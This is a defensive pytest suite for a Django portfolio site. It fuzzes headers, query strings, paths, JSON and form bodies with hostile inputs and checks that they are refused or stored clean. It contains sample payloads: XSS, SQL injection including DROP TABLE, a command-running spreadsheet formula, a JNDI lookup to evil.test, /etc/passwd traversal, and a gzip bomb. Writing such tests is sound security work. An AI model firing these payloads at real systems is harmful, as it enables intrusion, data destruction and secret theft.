"""Hostile input at every open door: refused with 4xx or stored clean, never a fault of ours; on both databases."""

from __future__ import annotations

import gzip
import json
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portfolio.seed import seed_site
from visitors import recording
from visitors.limits import counting
from visitors.models import PageView, VisitorInteraction, VisitorSession

pytestmark = pytest.mark.django_db

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0"
PAGES = ("/", "/about/", "/projects/", "/resume/", "/chat/", "/contact/", "/job-analysis/", "/privacy/", "/no/page/")
READS = (*PAGES, "/robots.txt", "/api/projects/", "/api/projects/raft-kv/", "/api/visitors/session/current/",
         "/api/visitors/me/", "/r/acme-2345/", "/healthz", "/admin/login/")  # fmt: skip
WRITES = ("/api/chat/", "/api/job-analysis/", "/api/contact/", "/api/visitors/events/", "/api/event")
FORMS = ("/chat/", "/contact/", "/job-analysis/")
PAYLOADS = {
    "script": "<script>alert(1)</script>",
    "attribute": "\" onmouseover=\"alert(1)\" x=\"",
    "sql": "'; DROP TABLE visitors_visitorsession; --",
    "sql union": "1 UNION SELECT password FROM auth_user",
    "formula": "=cmd|' /C calc'!A0",
    "template": "{{ settings.SECRET_KEY }}{% debug %}",
    "log line": "x\r\n2026-11-22 ERROR root: forged",
    "shell lookup": "${jndi:ldap://evil.test/a}",
    "path": "../../../../etc/passwd",
    "nul": "a\x00b",
    "surrogate": "a\ud800b",
    "right to left": "\u202egnp.exe",
    "emoji": "👩‍💻" * 50,
    "combining": "Z" + "\u0301" * 500,
    "long": "A" * 64 * 1024,
}  # fmt: skip
HEADERS = ("User-Agent", "Referer", "Accept", "Accept-Language", "X-Forwarded-For", "Sec-CH-UA", "Sec-Purpose",
           "Sec-Fetch-Site", "X-Requested-With", "Cookie", "Origin", "Authorization", "CF-IPCountry",
           "Content-Language", "If-Modified-Since", "If-None-Match", "Range")  # fmt: skip


@pytest.fixture(autouse=True)
def _site(db: None, settings: Any) -> None:
    seed_site()
    settings.VISITORS = settings.VISITORS | {"TRUSTED_PROXIES": ["127.0.0.0/8"]}


@pytest.fixture
def browser() -> Client:
    return Client(raise_request_exception=True, headers={"user-agent": FIREFOX})


def in_a_header(text: str) -> str:
    """As WSGI hands it over: Latin-1, no line breaks, which no server lets through."""
    return text.encode("utf-8", "surrogatepass").decode("latin-1").replace("\r", " ").replace("\n", " ")


def all_text() -> str:
    """Whatever was stored, as text."""
    rows = [*VisitorSession.objects.values(), *PageView.objects.values(), *VisitorInteraction.objects.values()]
    return json.dumps(rows, default=str, ensure_ascii=False)


def assert_stored_clean() -> None:
    stored = all_text()
    assert "\x00" not in stored
    assert not any(0xD800 <= ord(character) < 0xE000 for character in stored)
    assert max((len(path) for path in PageView.objects.values_list("path", flat=True)), default=0) <= 500


@pytest.mark.parametrize("header", HEADERS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_header_breaks_no_page(browser: Client, header: str, name: str) -> None:
    answer = browser.get("/", headers={header: in_a_header(PAYLOADS[name])})
    assert answer.status_code in {200, 304}
    if header == "User-Agent":
        assert PageView.objects.count() == 1
    assert_stored_clean()


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_query_breaks_no_answer(browser: Client, name: str) -> None:
    parameters = ("utm_source", "utm_campaign", "ref", "source", "gclid", "page", "days", "question", "project", "next")
    for path in READS:
        answer = browser.get(path, {key: PAYLOADS[name].encode("utf-8", "surrogatepass") for key in parameters})
        assert answer.status_code < 500, path
    assert_stored_clean()


@pytest.mark.parametrize("name", PAYLOADS)
def test_a_hostile_path_is_not_found(browser: Client, name: str) -> None:
    path = "/" + in_a_header(PAYLOADS[name])[:2000]
    answer = browser.get("/", PATH_INFO=path)
    assert answer.status_code in {301, 302, 400, 404}
    assert_stored_clean()


@pytest.mark.parametrize("path", WRITES)
@pytest.mark.parametrize("name", PAYLOADS)
def test_hostile_text_in_json_is_refused_or_taken(browser: Client, path: str, name: str) -> None:
    text = PAYLOADS[name]
    fields = ("question", "project", "name", "email", "company", "message", "job_requirements", "n", "u", "p", "tz",
              "url", "domain", "referrer", "props")  # fmt: skip
    for body in (dict.fromkeys(fields, text), {field: {text: text} for field in fields}, {text: text}, [text]):
        answer = browser.post(path, json.dumps(body), content_type="application/json")
        assert answer.status_code < 500, body
    assert_stored_clean()


@pytest.mark.parametrize("name", [name for name in PAYLOADS if name not in {"surrogate"}])
@pytest.mark.parametrize("path", FORMS)
def test_hostile_text_in_a_form_is_refused_or_taken(browser: Client, path: str, name: str) -> None:
    text = PAYLOADS[name]
    fields = ("question", "project", "name", "company", "message", "job_requirements", "email")
    answer = browser.post(path, dict.fromkeys(fields, text))
    assert answer.status_code < 500
    assert b"<script>alert(1)" not in answer.content


TOO_DEEP = "[" * 100_000 + "]" * 100_000
BODIES = {
    "empty": b"",
    "not JSON": b"{not json",
    "not UTF-8": b'{"question": "\xff\xfe"}',
    "UTF-16": '{"question": "x"}'.encode("utf-16"),
    "byte order mark": b'\xef\xbb\xbf{"question": "x"}',
    "list": b"[1, 2]",
    "number": b"7",
    "null": b"null",
    "NaN": b'{"question": NaN, "n": NaN, "u": NaN}',
    "Infinity": b'{"e": Infinity, "n": "engagement", "u": "http://testserver/"}',
    "huge integer": b'{"e": ' + b"9" * 400 + b', "n": "engagement", "u": "http://testserver/"}',
    "huger integer": b'{"e": ' + b"9" * 5000 + b', "n": "engagement", "u": "http://testserver/"}',
    "huge exponent": b'{"e": 1e999, "n": "engagement", "u": "http://testserver/"}',
    "deep": TOO_DEEP.encode(),
    "deep object": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "deep props": b'{"n": "x", "u": "http://testserver/", "p": ' + TOO_DEEP.encode() + b"}",
    "many keys": json.dumps({str(number): number for number in range(20_000)}).encode(),
    "same key twice": b'{"question": "a", "question": "b"}',
    "10 MB": b'{"question": "' + b"a" * 10_000_000 + b'"}',
    "NUL": b'{"question": "a\\u0000b", "n": "a\\u0000b", "u": "http://testserver/\\u0000"}',
    "lone surrogate": b'{"question": "a\\ud800b", "n": "\\ud800", "u": "http://testserver/\\ud800"}',
    "gzip": gzip.compress(b'{"question": "Where are you?"}'),
    "gzip bomb": gzip.compress(b"\0" * 50_000_000),
}


@pytest.mark.parametrize("path", WRITES)
@pytest.mark.parametrize("name", BODIES)
def test_a_hostile_body_is_refused_and_said_so(browser: Client, path: str, name: str) -> None:
    headers = {"Content-Encoding": "gzip"} if name.startswith("gzip") else {}
    answer = browser.post(path, BODIES[name], content_type="application/json", headers=headers)
    lenient = {"same key twice", "many keys", "lone surrogate", "NUL", "byte order mark"}
    lenient |= {"huge integer", "huge exponent"} if path == "/api/event" else set()  # it knows no key `e`
    assert 400 <= answer.status_code < 500 or (name in lenient and answer.status_code < 300)
    if answer.status_code >= 400:
        told = json.dumps(answer.json())
        assert "Traceback" not in told
        assert "Error(" not in told
    assert_stored_clean()


class NeverRead:
    """A body that only counts: what is read of it would go to disk."""

    def __init__(self) -> None:
        self.taken = 0

    def read(self, size: int = -1) -> bytes:
        self.taken += size
        return b"a" * max(size, 0)

    readline = read


@pytest.mark.parametrize("path", [*FORMS, "/privacy/", "/admin/login/", "/", *WRITES])
def test_a_huge_form_is_refused_before_anybody_reads_it(browser: Client, path: str) -> None:
    body = NeverRead()
    answer = browser.generic(
        "POST",
        path,
        content_type="multipart/form-data; boundary=b",
        **{"CONTENT_LENGTH": str(10**9), "wsgi.input": body},
    )
    assert (answer.status_code, body.taken) == (413, 0)
    assert "at most" in answer.content.decode()


@pytest.mark.parametrize("path", ["/api/chat/", "/api/contact/", "/api/job-analysis/"])
@pytest.mark.parametrize(
    "content_type",
    ["text/plain", "application/xml", "image/png", "application/x-www-form-urlencoded", "multipart/form-data",
     "multipart/form-data; boundary=" + "b" * 5000, "application/json; charset=utf-7",
     "*/*", "/", "", "application/json" + ";" * 1000],
)  # fmt: skip
def test_a_wrong_content_type_is_refused(browser: Client, path: str, content_type: str) -> None:
    answer = browser.post(path, b"<a/>", content_type=content_type)
    assert answer.status_code in {400, 415}


@pytest.mark.parametrize(
    "hops",
    [
        ", ".join(f"10.{number % 250}.0.1" for number in range(5000)),
        ",".join(["unknown"] * 5000),
        "," * 5000,
        "[::ffff:203.0.113.7]:443, fe80::1%eth0, _hidden, 203.0.113.7:99999",
        "\x00, \xff\xfe, <script>",
        "203.0.113.7" + " " * 10_000,
    ],
)
def test_a_header_of_many_hops_costs_little_and_breaks_nothing(browser: Client, hops: str) -> None:
    assert browser.get("/", headers={"x-forwarded-for": hops}).status_code == 200
    assert VisitorSession.objects.count() == 1
    assert "<script>" not in all_text()


ADDRESSES = (
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
    "android-app://com.linkedin.android/", "http://[::1", "http://[", "//evil.test", "http://" + "a" * 70_000,
    "https://user:password@evil.test/?token=abc#x", "http://evil.test/<script>alert(1)</script>",
    "https://xn--p1ai/", "http://\xff\xfe/", "http://a b/", "https://evil.test:99999/", "h\tttp://evil.test/",
)  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_odd_referrer_is_reduced_or_forgotten(browser: Client, address: str) -> None:
    assert browser.get("/", headers={"referer": address}).status_code == 200
    session = VisitorSession.objects.get()
    assert len(session.referrer_host) <= 255
    stored = all_text()
    for part in ("javascript:", "data:text", "<script>", "password", "token=abc"):
        assert part not in stored


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_odd_link_reported_by_the_tracker_is_stored_clean(browser: Client, address: str) -> None:
    browser.get("/")
    body = {"n": "Outbound Link: Click", "u": "http://testserver/", "p": {"url": address}}
    answer = browser.post("/api/visitors/events/", json.dumps(body), content_type="text/plain")
    assert answer.status_code == (400 if len(address) > 64 * 1024 else 202)
    recording.drain()
    stored = all_text()
    for part in ("javascript:", "text/html", "token=abc", "password@", "etc/passwd"):
        assert part not in stored
    assert not [row for row in VisitorInteraction.objects.values_list("target", flat=True) if ":" in row.split("/")[0]]


@pytest.mark.parametrize(
    "method", ["OPTIONS", "HEAD", "PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "BREW", "ＧＥＴ", "x" * 500]
)
def test_an_odd_method_is_refused(browser: Client, method: str) -> None:
    for path in (*READS, *WRITES):
        answer = browser.generic(method, path)
        assert answer.status_code < 500, (method, path)
        if answer.streaming:
            b"".join(answer)  # closing it by hand would end the connection of this transaction
    assert PageView.objects.count() == 0


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.floats() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=20), inner, max_size=5),
    max_leaves=20,
)
EVENT = st.fixed_dictionaries(
    {},
    optional={
        "n": st.sampled_from(["engagement", "pageview", "Outbound Link: Click", "signup"]) | ANY_JSON,
        "u": st.sampled_from(["http://testserver/", "http://testserver/?a=b#c"]) | ANY_JSON,
        "e": st.integers() | ANY_JSON,
        "sd": st.integers() | ANY_JSON,
        "tz": st.text(max_size=100) | ANY_JSON,
        "p": st.dictionaries(st.text(max_size=300), ANY_JSON, max_size=40) | ANY_JSON,
        "r": ANY_JSON,
        "d": ANY_JSON,
    },
)


@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None)
@given(body=EVENT)
def test_whatever_an_event_holds_is_taken_or_refused(body: Any) -> None:
    counting.forget()  # or most of them would be too many
    browser = Client(headers={"user-agent": FIREFOX})
    answer = browser.post("/api/visitors/events/", json.dumps(body), content_type="text/plain")
    assert answer.status_code in {202, 400}
    recording.drain()
    assert_stored_clean()


@settings(max_examples=80, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, database=None)
@given(
    headers=st.dictionaries(st.sampled_from(HEADERS), st.binary(max_size=300), max_size=6),
    query=st.binary(max_size=200),
)
def test_whatever_the_headers_hold_the_page_is_shown(headers: dict[str, bytes], query: bytes) -> None:
    given_headers = {name: in_a_header(value.decode("latin-1")) for name, value in headers.items()}
    browser = Client(headers={"user-agent": FIREFOX})
    meta = {f"HTTP_{name.upper().replace('-', '_')}": value for name, value in given_headers.items()}
    answer = browser.get("/", QUERY_STRING=query.decode("latin-1"), **meta)
    assert answer.status_code in {200, 304}
    assert_stored_clean()
